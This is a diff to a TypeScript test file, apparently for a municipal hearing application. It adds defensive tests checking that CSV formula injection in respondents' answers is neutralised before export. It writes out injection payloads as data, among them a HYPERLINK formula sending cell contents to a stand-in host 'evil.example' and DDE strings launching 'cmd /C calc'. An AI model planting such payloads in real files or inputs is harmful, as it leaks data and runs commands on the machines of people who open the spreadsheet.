@@ -5,8 +5,8 @@ import { createTargets, drainJobs, type Targets } from './setup';
 
 /*
  * Oversize, control and look-alike text in what people type, and injection strings in text
- * that ends up in a document or a file name. CSV formula injection is fixed in another
- * branch: add its cases (every CSV cell) here after the merge.
+ * that ends up in a document or a file name, and formulas in answers that end up in the
+ * hearing's CSV, which the coordinator opens in Excel (OWASP's CSV injection).
  */
 
 let h: Harness;
@@ -97,10 +97,43 @@ const files: HostileCase[] = [
   },
 ];
 
+/** What a spreadsheet would run as a formula, each as a respondent's answer (OWASP's list and more). */
+const formulas: Record<string, string> = {
+  'a HYPERLINK that leaks the sheet': '=HYPERLINK("https://evil.example/?"&A1,"Klikk")',
+  'a DDE command': "+cmd|' /C calc'!A0",
+  'an @ function': '@SUM(1+1)',
+  'a minus formula': '-2+3+cmd|\' /C calc\'!A0',
+  'a tab before a formula': '\t=1+1',
+  'a carriage return before a formula': '\r=1+1',
+  'a full-width equals sign': '\uFF1DHYPERLINK("https://evil.example")',
+  'spaces before a formula': '   =1+1',
+};
+/** A cell a spreadsheet would evaluate: one that starts, after the quote, with = + - @, a tab or a CR. */
+const liveCell = /(?:^|[;,\n])"?\s*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
+const csvCases: HostileCase[] = Object.entries(formulas).map(
+  ([name, formula]): HostileCase => ({
+    name: `${name} in a hearing response reaches the CSV as text`,
+    send: async (hh) => {
+      await hh.press(people.respondent, 'hearing.submit', { hearingId: x.hearingId, version: 1, municipality: '3324', position: 'agree', text: `${formula}` });
+      return hh.say(people.coordinator, `sammenstill høring ${x.hearingId}`);
+    },
+    expect: /\.csv/,
+    changes: true,
+    then: async (_hh, answer) => {
+      const url = [...answer.text.matchAll(/"url":"([^"]+\.csv[^"]*)"/g)].map((m) => JSON.parse(`"${m[1]}"`) as string)[0];
+      expect(url, 'a CSV link').toBeDefined();
+      const csv = await (await fetch(url!)).text();
+      expect(csv, 'the answer is in the file').toContain(formula.trim().replace(/^[\t\r]/, '').slice(1, 8));
+      for (const line of csv.split(/\r?\n/)) expect(line, 'no cell a spreadsheet would run').not.toMatch(liveCell);
+    },
+  }),
+);
+
 describe('hostile: oversize and control text, and injection into documents and file names', () => {
   for (const [title, cases] of [
     ['what people type', typed],
     ['documents and file names', files],
+    ['formulas in the CSV', csvCases],
     ['cards that grow', [tenLongAnswers]],
   ] as const) {
     describe(title, () => {
